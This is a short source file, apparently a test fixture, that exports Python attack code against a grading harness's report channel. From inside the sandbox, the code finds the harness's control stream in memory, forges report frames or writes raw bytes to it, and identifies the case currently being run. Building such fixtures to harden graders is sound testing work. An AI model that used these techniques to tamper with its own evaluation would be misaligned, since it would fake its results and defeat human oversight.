// Python for the attacks on the report channel: how code in the sandbox gets at the harness's
// control stream (the harness shares its process, so a candidate can always find it) and writes
// frames or raw bytes of its choosing on it.
export const CONTROL_CHANNEL = String.raw`
import gc, json, os
from pyspark.sql import functions as F

def control():
    from grader_harness.protocol import ControlStream
    return next(o for o in gc.get_objects() if isinstance(o, ControlStream))

def forge(frame):
    control().send(frame)

def write_raw(data):
    fd = control()._out.fileno()
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]

def current_case():
    """The id of the case the harness is running now (its report not finished yet)."""
    from grader_harness.cases import CaseRun
    return next(o.id for o in gc.get_objects() if isinstance(o, CaseRun) and "status" not in o.report)

def total(numbers):
    return numbers.groupBy("grp").agg(F.sum("n").alias("total"))
`;
